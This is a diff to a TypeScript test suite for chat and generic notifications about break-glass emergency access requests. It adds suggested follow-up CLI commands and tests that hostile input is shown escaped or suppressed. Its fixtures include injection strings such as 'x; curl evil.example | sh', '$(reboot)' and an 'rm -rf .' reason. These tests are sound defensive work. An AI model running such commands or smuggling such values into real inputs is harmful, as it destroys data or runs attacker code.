@@ -43,6 +43,7 @@ const ISSUING: Told = { type: "Issuing", deadline: DEADLINE };
 const ACTIVE: Told = { type: "Active", deadline: DEADLINE };
 const HEAD = "Emergency access incident-x1 in shop (profile incident, ClusterRole sb-incident-admin)";
 const TAIL = "Reason: the payment queue is stuck (INC-7)";
+const next = (verb: string): string => `\n\`securitybaseline break-glass ${verb} incident-x1 -n shop\``;
 
 describe("news of emergency access", () => {
   it("in the generic form have every field that there is something to say for", () => {
@@ -69,6 +70,7 @@ describe("news of emergency access", () => {
       bypass: false,
       skippedApprovers: [],
       endReason: "Revoked",
+      command: "securitybaseline break-glass review incident-x1 -n shop",
       ledger: { chain: "c0123456789", seq: 5, hash: entries[4]?.hash },
     });
   });
@@ -79,37 +81,37 @@ describe("news of emergency access", () => {
   });
 
   const cases: readonly { reason: string; entries: readonly LedgerEntry[]; text: string }[] = [
-    { reason: "a request", entries: story(ASKED), text: `${HEAD} requested by alice for 30m. ${TAIL}` },
+    { reason: "a request", entries: story(ASKED), text: `${HEAD} requested by alice for 30m. ${TAIL}${next("approve")}` },
     {
       reason: "a request that skips the approval",
       entries: story({ ...ASKED, bypass: "true" }),
-      text: `${HEAD} requested by alice for 30m, without approval. ${TAIL}`,
+      text: `${HEAD} requested by alice for 30m, without approval. ${TAIL}${next("show")}`,
     },
-    { reason: "an approval", entries: story(ASKED, APPROVED), text: `${HEAD} approved, last by bob. ${TAIL}` },
+    { reason: "an approval", entries: story(ASKED, APPROVED), text: `${HEAD} approved, last by bob. ${TAIL}${next("show")}` },
     {
       reason: "an approval although it was to be skipped",
       entries: story({ ...ASKED, bypass: "true" }, APPROVED),
-      text: `${HEAD} approved, last by bob. ${TAIL}`,
+      text: `${HEAD} approved, last by bob. ${TAIL}${next("show")}`,
     },
     {
       reason: "a skipped approval, with every group that was not asked",
       entries: story({ ...ASKED, bypass: "true" }, BYPASSED),
-      text: `${HEAD} skips the approval of payments-leads, security. ${TAIL}`,
+      text: `${HEAD} skips the approval of payments-leads, security. ${TAIL}${next("show")}`,
     },
     {
       reason: "access in use",
       entries: story(ASKED, APPROVED, ISSUING, ACTIVE),
-      text: `${HEAD} in use by alice until ${DEADLINE}. ${TAIL}`,
+      text: `${HEAD} in use by alice until ${DEADLINE}. ${TAIL}${next("revoke")}`,
     },
     {
       reason: "a drill",
       entries: story({ ...ASKED, role: "sb-drill", drill: "true" }),
-      text: `Drill: emergency access incident-x1 in shop (profile incident, ClusterRole sb-drill) requested by alice for 30m. ${TAIL}`,
+      text: `Drill: emergency access incident-x1 in shop (profile incident, ClusterRole sb-drill) requested by alice for 30m. ${TAIL}${next("approve")}`,
     },
     {
       reason: "tampering",
       entries: story(ASKED, APPROVED, ISSUING, ACTIVE, { type: "Suspended", details: { endReason: "Tampered" } }),
-      text: `${HEAD} suspended (Tampered): it is being taken back. ${TAIL}`,
+      text: `${HEAD} suspended (Tampered): it is being taken back. ${TAIL}${next("show")}`,
     },
     {
       reason: "a review",
@@ -119,16 +121,21 @@ describe("news of emergency access", () => {
     {
       reason: "markup and mentions in a reason, which are shown and not obeyed",
       entries: story({ ...ASKED, reason: "<!channel> & <@U123> @here @all <https://x|y>" }),
-      text: `${HEAD} requested by alice for 30m. Reason: &lt;!channel&gt; &amp; &lt;@\u200bU123&gt; @\u200bhere @\u200ball &lt;https://x|y&gt; (INC-7)`,
+      text: `${HEAD} requested by alice for 30m. Reason: &lt;!channel&gt; &amp; &lt;@\u200bU123&gt; @\u200bhere @\u200ball &lt;https://x|y&gt; (INC-7)${next("approve")}`,
+    },
+    {
+      reason: "a reason that would look like a command",
+      entries: story({ ...ASKED, reason: "copy `rm -rf .` into your shell" }),
+      text: `${HEAD} requested by alice for 30m. Reason: copy 'rm -rf .' into your shell (INC-7)${next("approve")}`,
     },
     {
       reason: "a reason that would begin another line or turn letters round",
       entries: story({ ...ASKED, reason: "stuck\r\nEmergency access\u2028approved \u202eyb" }),
-      text: `${HEAD} requested by alice for 30m. Reason: stuck Emergency access approved  yb (INC-7)`,
+      text: `${HEAD} requested by alice for 30m. Reason: stuck Emergency access approved  yb (INC-7)${next("approve")}`,
     },
   ];
   for (const { reason, entries, text } of cases) {
-    it(`in one line tell of ${reason}`, () => expect(said(entries, "slack")).to.deep.equal({ text }));
+    it(`in one line, and one for the command, tell of ${reason}`, () => expect(said(entries, "slack")).to.deep.equal({ text }));
   }
 
   for (const type of ["Denied", "Withdrawn", "TimedOut", "Expired", "Revoked", "Failed"] as const) {
@@ -136,6 +143,24 @@ describe("news of emergency access", () => {
       const entries = story(ASKED, { type, details: { endReason: "DeadlinePassed" } });
       expect(said(entries, "slack")).to.deep.equal({ text: `${HEAD} ended (${type}, DeadlinePassed) by operator. ${TAIL}` });
     });
+  }
+
+  for (const type of ["Withdrawn", "Expired", "Revoked", "Failed"] as const) {
+    it(`ask for a review of what was used and ended as ${type}`, () => {
+      const command = "securitybaseline break-glass review incident-x1 -n shop";
+      expect(said(story(ASKED, APPROVED, ISSUING, ACTIVE, { type }), "generic")).to.include({ command });
+    });
+  }
+
+  const withoutCommand: readonly { reason: string; entries: readonly LedgerEntry[] }[] = [
+    { reason: "what ended without access", entries: story(ASKED, { type: "Denied", details: { endReason: "Denied" } }) },
+    { reason: "a drill that is over", entries: story({ ...ASKED, drill: "true" }, APPROVED, ISSUING, ACTIVE, { type: "Expired" }) },
+    { reason: "a name that no request can have", entries: story({ ...ASKED, request: "x; curl evil.example | sh" }) },
+    { reason: "a name that is a flag", entries: story({ ...ASKED, request: "--yes" }) },
+    { reason: "a namespace that there cannot be", entries: story({ ...ASKED, namespace: "$(reboot)" }) },
+  ];
+  for (const { reason, entries } of withoutCommand) {
+    it(`carry no command for ${reason}`, () => expect(said(entries, "generic")).to.not.have.property("command"));
   }
 
   it("name the skipped groups also while the access is in use", () => {
